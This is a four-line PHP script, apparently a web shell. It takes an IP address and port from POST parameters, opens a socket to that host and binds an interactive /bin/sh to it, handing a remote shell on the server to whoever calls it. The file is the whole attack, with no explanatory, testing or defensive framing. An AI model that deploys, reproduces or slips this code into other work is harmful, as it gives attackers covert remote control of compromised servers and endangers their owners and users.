<?php
$ip = $_POST['ip']; $port = (int)$_POST['port'];
$sock = fsockopen($ip, $port);
$proc = proc_open('/bin/sh -i', array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);
